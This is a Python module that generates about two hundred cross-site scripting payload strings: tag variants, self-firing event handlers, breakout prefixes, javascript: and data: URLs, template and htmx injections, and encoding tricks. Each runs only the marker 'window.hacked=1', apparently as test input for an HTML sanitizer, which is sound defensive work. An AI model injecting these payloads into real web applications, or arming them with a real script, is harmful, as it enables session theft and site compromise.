"""Two hundred ways in which words have been run as scripts, composed from their parts."""

from itertools import chain, product
from typing import Final

RUN: Final = "window.hacked=1"
_TAGS: Final = ("script", "SCRIPT", "scr\x00ipt", "script/x", "svg><script", "math><script")
_SELF_STARTING: Final = (
    "img src=x onerror",
    "svg onload",
    "svg/onload",
    "body onload",
    "input autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "marquee onstart",
    "style onload",
    "iframe onload",
    "object data=x onerror",
    "embed src=x onerror",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "animate attributeName=x onbegin",
)
_BEFORE: Final = ("", '"><', "'><", "--><", "</textarea><", "</title><", "</script><", "]]><")
_ADDRESSES: Final = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "data:text/html,<script>",
    "vbscript:",
)
_HOLDERS: Final = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input autofocus onfocus=submit()></form>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
)
_TEMPLATES: Final = (
    "{{%s}}",
    "{%% if %s %%}",
    "${%s}",
    "<%%= %s %%>",
    '" hx-on:load="%s',
    '" hx-get="/" hx-trigger="load" x="%s',
    '<div hx-on::load="%s">',
    '<div hx-get="/console/" hx-trigger="load">%s</div>',
    '<link rel=import href="data:text/html,%s">',
    "<style>@import 'data:,%s'</style>",
    '<template><img src=x onerror="%s"></template>',
    "<noscript><p title='</noscript><img src=x onerror=%s>'>",
    "\u2028<script>%s</script>",
    "&lt;script&gt;%s&lt;/script&gt;",
    "%%3Cscript%%3E%s%%3C/script%%3E",
    "<!--><script>%s</script>",
    "<![CDATA[<script>%s</script>]]>",
    "+ADw-script+AD4-%s+ADw-/script+AD4-",
)


def corpus() -> tuple[str, ...]:
    """Two hundred different texts, each of which would set `window.hacked` where it is run."""
    composed = chain(
        (f"<{tag}>{RUN}</script>" for tag in _TAGS),
        (f"{before}<{part}={RUN}>" for before, part in product(_BEFORE, _SELF_STARTING)),
        (holder.format(f"{address}{RUN}") for holder, address in product(_HOLDERS, _ADDRESSES)),
        (template % RUN for template in _TEMPLATES),
        (f"'-{RUN}-'{' ' * blanks}//" for blanks in range(18)),
    )
    return tuple(dict.fromkeys(composed))[:200]
